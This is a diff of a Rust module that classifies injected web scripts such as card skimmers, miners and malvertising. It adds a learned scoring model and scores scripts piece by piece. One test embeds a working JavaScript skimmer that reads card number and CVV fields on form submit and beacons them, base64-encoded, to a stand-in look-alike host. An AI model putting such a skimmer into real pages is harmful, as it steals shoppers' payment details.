@@ -9,17 +9,23 @@
 //!   packed strings, miner vocabulary or WebAssembly plus workers plus sockets, forced
 //!   navigation and pop-unders.
 //!
-//! Each category's score is a logistic function of its features with the weights below (the
-//! model's parameters: they live here, in the repository, tuned on `testdata/corpus/tuning`
-//! only; `tests/corpus.rs` measures them on the held-out set). `risk` is the highest category
-//! score, `malicious` is `risk >= MALICIOUS_THRESHOLD`.
+//! `risk` is the learned model's probability ([`learned`]: a logistic regression over these
+//! features and the code's node-type 3-grams, trained reproducibly on real npm libraries and
+//! injected skimmer families; its parameters ship in the repository), and `malicious` is
+//! `risk >= MALICIOUS_THRESHOLD`. The categories say what kind of threat it is: each has a
+//! small hand-weighted logistic function of the semantic features below; a malicious
+//! script is given those that reach 0.5, or else the strongest threat category, and
+//! `obfuscated` is reported whenever its score reaches 0.5, malicious or not.
 //!
 //! With a baseline (the previous version of the same script), only the code the new version
-//! adds is scored, and hosts the baseline already named are not new.
+//! adds is scored, and hosts the baseline already named are not new. Without one, a parsed
+//! script is scored piece by piece ([`local_features`]) and its riskiest piece speaks for it:
+//! a whole library does everything a skimmer does somewhere, but not in one small piece.
 
 use serde::Serialize;
 
 use super::diff::new_units;
+use super::learned::{self, NGRAM_BUCKETS};
 use super::signals::{self, *};
 use super::{line_of, shape, Analysis, Parsed};
 
@@ -84,6 +90,9 @@ pub struct Features {
     pub unparsed: bool,
     /// Normalised tokens scored (0 when unparsed).
     pub tokens: usize,
+    /// The scored code's node-type 3-grams in [`NGRAM_BUCKETS`] buckets, unit length (empty
+    /// when unparsed).
+    pub ngrams: Vec<f64>,
 }
 
 /// Where a source meets a sink.
@@ -164,9 +173,8 @@ const CATEGORIES: [&Weights; 4] = [&MAGECART, &CRYPTOJACKING, &MALVERTISING, &OB
 /// A shape margin of this much (cosine difference) counts as the whole `shape` feature.
 const SHAPE_SCALE: f64 = 20.0;
 
-/// Obfuscation is a category of its own, but on its own (many sites minify and pack code
-/// legitimately) it never makes a script malicious: its score counts at this fraction.
-const OBFUSCATED_RISK_FACTOR: f64 = 0.6;
+/// Scores of the hand-weighted categories at or above which a category is named.
+const CATEGORY_THRESHOLD: f64 = 0.5;
 
 /// Scores a script, or with `baseline` the code it adds to the baseline.
 pub fn classify(
@@ -175,41 +183,93 @@ pub fn classify(
     baseline: Option<&Analysis<'_>>,
     ctx: Context<'_>,
 ) -> Verdict {
-    let features = features(a, baseline, ctx);
-    let x = feature_vector(&features);
-    let mut risk: f64 = 0.0;
-    let mut categories = Vec::new();
-    for w in CATEGORIES {
-        let z = w.bias + w.w.iter().zip(&x).map(|(w, x)| w * x).sum::<f64>();
-        let score = sigmoid(z);
-        if score >= MALICIOUS_THRESHOLD {
-            categories.push(w.name);
+    let union = features(a, baseline, ctx);
+    let model = learned::shipped();
+    // With a baseline, the added code is scored as one; a whole parsed script is scored
+    // piece by piece and the riskiest piece speaks for it.
+    let (features, piece) = match (baseline, &a.outcome) {
+        (None, Ok(_)) => {
+            let best = local_features(a, ctx)
+                .into_iter()
+                .map(|(line, f)| (model.score(&learned::vector(&f)), line, f))
+                .max_by(|a, b| a.0.total_cmp(&b.0));
+            match best {
+                Some((_, line, f)) => (f, Some(line)),
+                None => (Features::default(), None),
+            }
         }
-        let counted = if w.name == "obfuscated" {
-            score * OBFUSCATED_RISK_FACTOR
-        } else {
-            score
-        };
-        risk = risk.max(counted);
-    }
+        _ => (union.clone(), None),
+    };
+    let hand = feature_vector(&features);
+    let x = learned::vector(&features);
+    let risk = if baseline.is_none() && a.outcome.is_ok() && piece.is_none() {
+        0.0
+    } else {
+        model.score(&x)
+    };
     let risk = (risk * 1000.0).round() / 1000.0;
+    let malicious = risk >= MALICIOUS_THRESHOLD;
+    let scores: Vec<(&'static str, f64)> = CATEGORIES
+        .iter()
+        .map(|w| {
+            let z = w.bias + w.w.iter().zip(&hand).map(|(w, x)| w * x).sum::<f64>();
+            (w.name, sigmoid(z))
+        })
+        .collect();
+    let obfuscated = {
+        let u = feature_vector(&union);
+        sigmoid(OBFUSCATED.bias + OBFUSCATED.w.iter().zip(&u).map(|(w, x)| w * x).sum::<f64>())
+    };
+    let mut categories: Vec<&'static str> = scores
+        .iter()
+        .filter(|(name, score)| {
+            *score >= CATEGORY_THRESHOLD && malicious && *name != OBFUSCATED.name
+        })
+        .map(|(name, _)| *name)
+        .collect();
+    if obfuscated >= CATEGORY_THRESHOLD {
+        categories.push(OBFUSCATED.name);
+    }
+    if malicious && !categories.iter().any(|c| *c != OBFUSCATED.name) {
+        let strongest = scores
+            .iter()
+            .filter(|(name, _)| *name != OBFUSCATED.name)
+            .max_by(|a, b| a.1.total_cmp(&b.1))
+            .map_or(MAGECART.name, |(name, _)| *name);
+        categories.insert(0, strongest);
+    }
+    let mut reasons = reasons(&features);
+    if let (Some(line), true) = (piece, malicious) {
+        reasons.insert(0, format!("the riskiest code starts at line {line}"));
+    }
+    if malicious && reasons.len() <= usize::from(piece.is_some()) {
+        reasons.push(format!(
+            "its code resembles the injected samples the model was trained on (strongest: {})",
+            model.strongest(&x, 3).join(", ")
+        ));
+    }
+    let mut named: std::collections::BTreeMap<&'static str, f64> = learned::SEMANTIC_NAMES
+        .iter()
+        .zip(x)
+        .filter(|(_, v)| *v != 0.0)
+        .map(|(k, v)| (*k, (v * 1000.0).round() / 1000.0))
+        .collect();
+    let shape = hand[N_FEATURES - 1];
+    if shape != 0.0 {
+        named.insert(FEATURE_NAMES[N_FEATURES - 1], shape);
+    }
     Verdict {
         file: file.to_owned(),
-        malicious: risk >= MALICIOUS_THRESHOLD,
+        malicious,
         risk,
         categories,
-        reasons: reasons(&features),
+        reasons,
         scope: if baseline.is_some() { "added" } else { "whole" },
         sha256: a.sha256.clone(),
         family: a.family.clone(),
-        hosts: features.new_hosts.clone(),
+        hosts: union.new_hosts.clone(),
         parsed: a.outcome.is_ok(),
-        features: FEATURE_NAMES
-            .iter()
-            .zip(x)
-            .filter(|(_, v)| *v != 0.0)
-            .map(|(k, v)| (*k, v))
-            .collect(),
+        features: named,
     }
 }
 
@@ -256,59 +316,147 @@ fn feature_vector(f: &Features) -> [f64; N_FEATURES] {
 
 /// Computes the features of `a`, or of what it adds to `baseline`.
 pub fn features(a: &Analysis<'_>, baseline: Option<&Analysis<'_>>, ctx: Context<'_>) -> Features {
-    // A URL works as well as a host.
-    let site = ctx
-        .site
-        .map(|s| signals::url_host(s).unwrap_or_else(|| s.to_owned()))
-        .map(|h| registrable(&h));
+    let site = site_domain(ctx);
     let baseline_hosts: Vec<String> = match baseline.map(|b| &b.outcome) {
         Some(Ok(p)) => p.hosts(),
         Some(Err(_)) => lexical_hosts(baseline.map_or("", |b| b.source)),
         None => Vec::new(),
     };
-    let mut f = Features::default();
-    let hosts = match &a.outcome {
+    match &a.outcome {
         Ok(p) => {
             let roots = scored_roots(p, baseline);
-            f.signals = roots.iter().fold(0, |s, &i| s | p.norm.units[i].signals);
-            f.flow = find_flow(p, &roots, a.source);
-            f.shape = shape::margin(shape::shipped(), &shape::profile(&p.norm, &roots));
-            f.tokens = roots
-                .iter()
-                .map(|&i| p.norm.units[i].end - p.norm.units[i].start)
-                .sum();
-            let mut hosts: Vec<String> = roots
-                .iter()
-                .flat_map(|&i| {
-                    p.norm.units[i]
-                        .hosts
-                        .iter()
-                        .map(|&h| p.norm.atom(h).to_owned())
-                })
-                .collect();
-            hosts.sort_unstable();
-            hosts.dedup();
-            hosts
+            features_of(p, &roots, a.source, site.as_deref(), &baseline_hosts)
         }
         Err(_) => {
-            f.unparsed = true;
-            f.signals = lexical_signals(a.source);
-            lexical_hosts(a.source)
+            let mut f = Features {
+                unparsed: true,
+                signals: lexical_signals(a.source),
+                ..Features::default()
+            };
+            add_hosts(
+                &mut f,
+                lexical_hosts(a.source),
+                site.as_deref(),
+                &baseline_hosts,
+            );
+            f
         }
+    }
+}
+
+/// The features of each small piece of a whole script that could do harm, with the piece's
+/// first line: the outermost units of at most [`LOCAL_MAX_TOKENS`] normalised tokens
+/// (bigger units are split into the units inside them) whose code sends, injects,
+/// evaluates, navigates, opens windows, mines or starts workers. Scoring pieces rather than
+/// the union of a whole library's signals is what keeps a large library, which does all of
+/// these somewhere, from looking like a skimmer, and lets a skimmer hidden inside one stand
+/// out. Empty when the script did not parse.
+pub fn local_features(a: &Analysis<'_>, ctx: Context<'_>) -> Vec<(usize, Features)> {
+    let Ok(p) = &a.outcome else {
+        return Vec::new();
     };
+    let site = site_domain(ctx);
+    pieces(p)
+        .into_iter()
+        .filter(|&g| p.norm.units[g].signals & HARMFUL != 0)
+        .map(|g| {
+            let line = line_of(a.source, p.norm.units[g].span.start);
+            (line, features_of(p, &[g], a.source, site.as_deref(), &[]))
+        })
+        .collect()
+}
+
+/// Units bigger than this are split into the units inside them for [`local_features`].
+pub const LOCAL_MAX_TOKENS: usize = FLOW_MAX_TOKENS;
+
+/// Signals of code that can do harm on its own.
+const HARMFUL: Signals =
+    SINKS | SINK_SRC_ATTR | DYN_EVAL | MINER | REDIRECT | POPUP | WORKER | WASM;
+
+/// The outermost units of at most [`LOCAL_MAX_TOKENS`] tokens (and big units with none
+/// inside), in order.
+fn pieces(p: &Parsed) -> Vec<usize> {
+    let units = &p.norm.units;
+    let mut children: Vec<Vec<usize>> = vec![Vec::new(); units.len()];
+    let mut stack: Vec<usize> = Vec::new();
+    for (i, u) in units.iter().enumerate() {
+        match u.parent {
+            Some(parent) if parent < units.len() => children[parent].push(i),
+            _ => stack.push(i),
+        }
+    }
+    stack.reverse();
+    let mut out = Vec::new();
+    while let Some(i) = stack.pop() {
+        let u = &units[i];
+        if u.end - u.start <= LOCAL_MAX_TOKENS || children[i].is_empty() {
+            out.push(i);
+        } else {
+            stack.extend(children[i].iter().rev());
+        }
+    }
+    out
+}
+
+/// The site's registrable domain; a URL works as well as a host.
+fn site_domain(ctx: Context<'_>) -> Option<String> {
+    ctx.site
+        .map(|s| signals::url_host(s).unwrap_or_else(|| s.to_owned()))
+        .map(|h| registrable(&h))
+}
+
+/// The features of the code under `roots` (disjoint subtrees).
+fn features_of(
+    p: &Parsed,
+    roots: &[usize],
+    source: &str,
+    site: Option<&str>,
+    baseline_hosts: &[String],
+) -> Features {
+    let mut f = Features {
+        signals: roots.iter().fold(0, |s, &i| s | p.norm.units[i].signals),
+        flow: find_flow(p, roots, source),
+        ..Features::default()
+    };
+    let counts = shape::counts::<NGRAM_BUCKETS>(&p.norm, roots);
+    let mut coarse = shape::fold::<NGRAM_BUCKETS, { shape::BUCKETS }>(&counts);
+    shape::unit_length(&mut coarse);
+    f.shape = shape::margin(shape::shipped(), &coarse);
+    f.ngrams = counts.to_vec();
+    shape::unit_length(&mut f.ngrams);
+    f.tokens = roots
+        .iter()
+        .map(|&i| p.norm.units[i].end - p.norm.units[i].start)
+        .sum();
+    let mut hosts: Vec<String> = roots
+        .iter()
+        .flat_map(|&i| {
+            p.norm.units[i]
+                .hosts
+                .iter()
+                .map(|&h| p.norm.atom(h).to_owned())
+        })
+        .collect();
+    hosts.sort_unstable();
+    hosts.dedup();
+    add_hosts(&mut f, hosts, site, baseline_hosts);
+    f
+}
+
+/// Records the hosts that are neither the site's nor the baseline's, and the look-alikes.
+fn add_hosts(f: &mut Features, hosts: Vec<String>, site: Option<&str>, baseline: &[String]) {
     for h in hosts {
         let reg = registrable(&h);
-        if site.as_deref() == Some(reg.as_str()) || baseline_hosts.contains(&h) {
+        if site == Some(reg.as_str()) || baseline.contains(&h) {
             continue;
         }
-        if let Some(site) = &site {
+        if let Some(site) = site {
             if looks_alike(&reg, site) {
-                f.lookalikes.push((h.clone(), site.clone()));
+                f.lookalikes.push((h.clone(), site.to_owned()));
             }
         }
         f.new_hosts.push(h);
     }
-    f
 }
 
 /// The units scored: every top-level unit, or the outermost units the new version adds.
@@ -326,26 +474,24 @@ fn scored_roots(p: &Parsed, baseline: Option<&Analysis<'_>>) -> Vec<usize> {
     }
 }
 
-/// A small unit, under the roots, that reads form data and sends somewhere.
+/// A small unit, under the roots (disjoint subtrees), that reads form data and sends
+/// somewhere. Units are numbered in pre-order, so a unit's subtree is the run of units after
+/// it whose tokens lie inside its own.
 fn find_flow(p: &Parsed, roots: &[usize], source: &str) -> Option<Flow> {
     const DATA: Signals = SRC_FORM | SRC_VALUE;
-    let in_scope = |mut i: usize| loop {
-        if roots.contains(&i) {
-            return true;
-        }
-        match p.norm.units[i].parent {
-            Some(parent) => i = parent,
-            None => return false,
-        }
-    };
-    p.norm
-        .units
+    let units = &p.norm.units;
+    roots
         .iter()
-        .enumerate()
-        .filter(|(_, u)| u.end - u.start <= FLOW_MAX_TOKENS)
-        .filter(|(_, u)| u.signals & DATA != 0 && u.signals & SINKS != 0)
-        .find(|(i, _)| in_scope(*i))
-        .map(|(_, u)| Flow {
+        .filter_map(|&r| units.get(r).map(|u| (r, u)))
+        .flat_map(|(r, root)| {
+            units[r..]
+                .iter()
+                .take_while(move |u| u.start >= root.start && u.end <= root.end)
+                .filter(move |_| root.signals & DATA != 0 && root.signals & SINKS != 0)
+        })
+        .filter(|u| u.end - u.start <= FLOW_MAX_TOKENS)
+        .find(|u| u.signals & DATA != 0 && u.signals & SINKS != 0)
+        .map(|u| Flow {
             line: line_of(source, u.span.start),
             signals: u.signals,
         })
@@ -534,6 +680,37 @@ mod tests {
         );
         let h = classify("h.js", &analyse(helper), None, ctx);
         assert!(!h.malicious && h.risk < 0.2, "{h:#?}");
+    }
+
+    /// Scored whole, a file is judged by its riskiest piece: the skimmer's line leads the
+    /// reasons, code with nothing harmful in it scores 0, and the pieces are small units.
+    #[test]
+    fn whole_files_are_scored_by_their_riskiest_piece() {
+        let mut library = String::from("var lib = (function () {\n");
+        for i in 0..40 {
+            library.push_str(&format!(
+                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] * {i}); }} return out; }}\n"
+            ));
+        }
+        library.push_str("  return { f0: f0 };\n})();\n");
+        let ctx = Context {
+            site: Some("www.shop.example"),
+        };
+        let clean = classify("lib.js", &analyse(&library), None, ctx);
+        assert_eq!(clean.risk, 0.0, "{clean:#?}");
+        let skimmer = "document.addEventListener('submit', function (e) {\n  var d = btoa(JSON.stringify({ n: document.getElementById('cardnumber').value, c: document.getElementById('cvv').value }));\n  new Image().src = 'https://shop-cdn-metrics.invalid/p.gif?d=' + d;\n});\n";
+        let injected = format!("{library}{skimmer}");
+        let line = library.lines().count() + 1;
+        let a = analyse(&injected);
+        let v = classify("lib.js", &a, None, ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert_eq!(
+            v.reasons[0],
+            format!("the riskiest code starts at line {line}")
+        );
+        let pieces = local_features(&a, ctx);
+        assert!(!pieces.is_empty());
+        assert!(pieces.iter().all(|(_, f)| f.tokens <= LOCAL_MAX_TOKENS));
     }
 
     #[test]
